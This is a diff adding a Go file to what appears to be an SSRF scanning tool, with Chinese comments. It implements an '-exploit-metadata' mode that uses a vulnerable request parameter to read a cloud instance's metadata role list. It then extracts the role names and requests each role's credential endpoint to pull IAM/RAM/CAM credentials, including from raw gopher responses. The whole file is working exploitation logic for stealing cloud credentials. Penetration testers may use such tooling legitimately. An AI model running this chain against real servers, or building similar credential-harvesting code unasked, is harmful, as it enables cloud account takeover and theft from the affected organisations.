@@ -0,0 +1,98 @@
+package scanner
+
+import (
+	"context"
+	"fmt"
+	"gosssrf-client/detector"
+	"gosssrf-client/payloads"
+	"log/slog"
+	"regexp"
+	"strings"
+)
+
+// maxCredentialRoles 每个角色列表最多跟进的角色数量
+const maxCredentialRoles = 5
+
+// roleNamePattern 实例角色名（IAM/RAM/CAM 角色名允许的字符）
+var roleNamePattern = regexp.MustCompile(`^[\w+=,.@-]{1,128}$`)
+
+// scanMetadataCredentials 凭据链跟进（-exploit-metadata参数）：先通过SSRF读取实例角色列表，再请求每个角色的凭据地址
+// 角色列表只返回角色名，单个payload无法直接拿到凭据
+func (sm *ScanManager) scanMetadataCredentials(ctx context.Context, target string, params map[string]string) {
+	listings := payloads.GetCredentialListings(sm.config.CloudList)
+	for param := range params {
+		for _, listing := range listings {
+			if sm.stopped(ctx) {
+				return
+			}
+			if !sm.followCredentials(ctx, target, param, listing.Listing(), listing.Role) {
+				return
+			}
+		}
+	}
+}
+
+// followCredentials 请求角色列表，对其中的每个角色发送 credential 生成的凭据payload，请求因 ctx 取消而中止时返回 false
+func (sm *ScanManager) followCredentials(ctx context.Context, target, param string, listing payloads.Payload, credential func(role string) payloads.Payload) bool {
+	if sm.excluded(listing) {
+		return true
+	}
+	method, testURL, body, err := sm.buildRequest(target, param, listing.Value)
+	if err != nil {
+		return true
+	}
+	statusCode, respBody, err := sm.detector.Fetch(ctx, method, testURL, body)
+	if err != nil {
+		return !sm.stopped(ctx)
+	}
+	if statusCode != 200 && !strings.HasPrefix(respBody, "HTTP/1.") {
+		return true
+	}
+
+	roles := extractRoleNames(respBody, sm.baseline(target, param))
+	if len(roles) == 0 {
+		return true
+	}
+	slog.Info(fmt.Sprintf("[%s] 参数 %s 获取到实例角色 %s，继续请求角色凭据", target, param, strings.Join(roles, ", ")), "target", target, "param", param)
+	for _, role := range roles {
+		payload := credential(role)
+		if sm.excluded(payload) {
+			continue
+		}
+		if !sm.testPayload(ctx, target, param, payload) {
+			return false
+		}
+	}
+	return true
+}
+
+// extractRoleNames 从角色列表响应中提取角色名（每行一个），基线中已存在的内容和HTML页面不视为角色列表
+// gopher返回原始HTTP响应时只在响应体中查找，且状态码必须为200
+func extractRoleNames(respBody string, baseline *detector.Baseline) []string {
+	if strings.HasPrefix(respBody, "HTTP/1.") {
+		idx := strings.Index(respBody, "\r\n\r\n")
+		if idx == -1 || !strings.HasPrefix(respBody, "HTTP/1.1 200") && !strings.HasPrefix(respBody, "HTTP/1.0 200") {
+			return nil
+		}
+		respBody = respBody[idx+4:]
+	}
+	if strings.Contains(respBody, "<") {
+		return nil
+	}
+
+	var roles []string
+	for _, line := range strings.Split(respBody, "\n") {
+		line = strings.TrimSpace(line)
+		if line == "" {
+			continue
+		}
+		if !roleNamePattern.MatchString(line) || baseline.Contains(line) {
+			return nil
+		}
+		roles = append(roles, line)
+		if len(roles) == maxCredentialRoles {
+			break
+		}
+	}
+	return roles
+}